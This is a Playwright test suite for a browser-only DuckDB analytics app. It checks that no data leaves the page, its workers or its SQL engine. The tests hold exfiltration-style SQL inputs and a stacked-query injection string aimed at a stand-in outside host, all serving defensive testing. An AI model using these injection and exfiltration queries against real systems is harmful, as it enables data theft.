import { type Page, type Worker } from '@playwright/test';
import { leavePage, leaveWorker } from './attempts.ts';
import { accept, addFiles, at, csv, expect, openSample, PAGES, panel, settled, test, visit } from './site.ts';

const ORDERS = csv(
  'orders.csv',
  [
    'order_id,customer_id,order_time,amount',
    ...Array.from(
      { length: 40 },
      (_, i) => `O${i},C${i % 12},2024-0${1 + (i % 6)}-${String(1 + (i % 27)).padStart(2, '0')} 10:00:00,${20 + i}`
    )
  ].join('\n')
);

/** The engine's worker and, inside it, the database's. */
async function workersOf(page: Page): Promise<Worker[]> {
  await expect.poll(() => page.workers().length, { timeout: 30_000 }).toBeGreaterThanOrEqual(2);
  return page.workers();
}

test.describe('nothing leaves', () => {
  test('the counting host counts what reaches it from a page without locks', async ({ page, elsewhere }) => {
    await page.goto(`http://${elsewhere.origin}/plain`);
    const before = elsewhere.hits.length;
    await page.evaluate((origin) => fetch(`http://${origin}/control`, { mode: 'no-cors' }), elsewhere.origin);
    expect(elsewhere.hits.slice(before)).toContain('GET /control');
  });

  test('from the page, by eighteen ways', async ({ page, site, elsewhere }) => {
    await page.goto(at(site, 'overview'));
    await page.evaluate(() => {
      const refused: string[] = [];
      Object.assign(globalThis, { refused });
      document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    });
    await page.evaluate(leavePage, { origin: elsewhere.origin, tag: 'page' });
    const refused = await page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
    expect(elsewhere.hits.filter((hit) => hit.includes('/page-'))).toEqual([]);
    for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem', 'form-action'])
      expect(refused).toContain(directive);
    expect(refused.length).toBeGreaterThanOrEqual(12);
  });

  test("from the engine's worker and the database's worker, to elsewhere and to our own host", async ({
    sample: page,
    site,
    elsewhere
  }) => {
    const workers = await workersOf(page);
    for (const [index, worker] of workers.entries()) {
      for (const origin of [elsewhere.origin, new URL(site.url).host]) {
        const said = await worker.evaluate(leaveWorker, { origin, tag: `leak${index}` });
        for (const [way, words] of Object.entries(said)) expect(words, `${way} in worker ${index}`).toContain('Regulars makes no requests');
      }
    }
    expect(elsewhere.hits.filter((hit) => hit.includes('/leak'))).toEqual([]);
    expect(site.hits.filter((hit) => hit.includes('/leak'))).toEqual([]);
  });

  test('from SQL, with a clear message each time', async ({ sample: page, site, elsewhere }) => {
    const own = `${site.url}sql-leak.csv`;
    const away = `http://${elsewhere.origin}/sql-leak.csv`;
    const attempts = [
      `select * from read_csv('${away}')`,
      `select * from read_csv('${own}')`,
      `select * from read_text('${away}')`,
      `select * from '${away}'`,
      `select * from glob('http://${elsewhere.origin}/*')`,
      `copy (select 1) to '${away}'`,
      `copy customers to 'sql-leak.csv'`,
      `attach '${away}' as leak`,
      'install httpfs',
      'load httpfs',
      "set allowed_directories = ['/']",
      `select 1) limit 1; copy (select 1) to '${away}'; select * from (select 1`
    ];
    for (const sql of attempts) {
      await visit(page, 'sql', { sql });
      const message = page.getByRole('alert');
      await expect(message, sql).toBeVisible();
      expect((await message.innerText()).length, sql).toBeGreaterThan(20);
    }
    await visit(page, 'sql', { sql: 'select 6 * 7 as answer' });
    await expect(page.getByRole('alert')).toHaveCount(0);
    await expect(page.getByText('42').first()).toBeVisible();
    expect(elsewhere.hits.filter((hit) => hit.includes('sql-leak'))).toEqual([]);
    expect(site.hits.filter((hit) => hit.includes('sql-leak'))).toEqual([]);
  });
});

test.describe('after load there is silence', () => {
  test('a whole session makes no request and breaks no policy: nothing inline, nothing evaluated', async ({ page, site }) => {
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(String(error)));
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) errors.push(message.text().slice(0, 200));
    });
    await page.goto(at(site, 'overview'), { waitUntil: 'networkidle' });
    await workersOf(page);
    await page.waitForLoadState('networkidle');
    const before = site.hits.length;
    const requests: string[] = [];
    page.on('request', (request) => {
      if (!/^(?:blob|data):/.test(request.url())) requests.push(request.url());
    });

    await visit(page, 'sources');
    await addFiles(page, ORDERS);
    await accept(page);
    for (const name of PAGES) {
      await visit(page, name);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    }
    await visit(page, 'segments');
    const region = panel(page, /./).first();
    await region.getByRole('button', { name: /Download/ }).click();
    const download = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: 'CSV' }).click();
    expect((await download).suggestedFilename()).toMatch(/\.csv$/);

    expect(requests).toEqual([]);
    expect(site.hits.slice(before)).toEqual([]);
    expect(errors).toEqual([]);
  });

  test('the privacy page lists the requests of this visit and forgets everything when asked', async ({ page, site }) => {
    await openSample(page, site);
    await visit(page, 'privacy');
    await expect(page.getByText(/duckdb-eh\.wasm\.gz/).first()).toBeVisible();
    await page.getByRole('button', { name: /Forget everything/i }).click();
    const sure = page.getByRole('button', { name: /^(?:Forget|Yes)/i });
    if ((await sure.count()) > 0) await sure.last().click();
    await settled(page);
    const kept = await page.evaluate(async () => ({
      local: Object.keys(localStorage),
      session: Object.keys(sessionStorage),
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length
    }));
    expect(kept).toEqual({ local: [], session: [], databases: 0, caches: 0 });
    await visit(page, 'segments');
    await expect(page.getByLabel(/Add files/).first()).toBeAttached();
  });
});
